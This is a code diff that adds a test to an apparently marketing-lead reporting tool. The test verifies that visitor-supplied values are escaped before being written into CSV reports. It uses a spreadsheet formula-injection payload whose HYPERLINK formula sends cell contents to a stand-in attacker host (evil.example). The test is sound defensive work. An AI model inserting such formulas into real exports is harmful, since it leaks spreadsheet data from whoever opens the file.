@@ -357,6 +357,26 @@ async def test_schedule_sends_each_report_once_with_several_workers(
     )
 
 
+async def test_report_csv_cells_cannot_be_spreadsheet_formulas(
+    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, tmp_path: Path
+) -> None:
+    """utm_content comes from any visitor's form post; the CSV is opened in a spreadsheet."""
+    day = utcnow().date() - timedelta(days=1)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    await _lead(harness, "csv1@company.com", _at(day, 9), formula)
+    await _lead(harness, "csv2@company.com", _at(day, 10), "@SUM(1+1)")
+    out = tmp_path / "report.csv"
+    args = ["reports", "send", "--period", "daily", "--date", day.isoformat(), "--campaign", CAMPAIGN]
+    result = await _invoke(cli_app, [*args, "--dry-run", "--output", str(out)], _cli_env(harness, smtp))
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text())))
+    items = {r["item"] for r in rows if r["section"] == "content"}
+    assert items == {"'" + formula, "'@SUM(1+1)"}
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
+    assert _value(rows, "summary", "total_leads")[0] == "2"  # numbers stay numbers
+
+
 async def test_report_message_id_is_stable_on_retry_and_unique_per_installation(
     harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, settings: Any
 ) -> None:
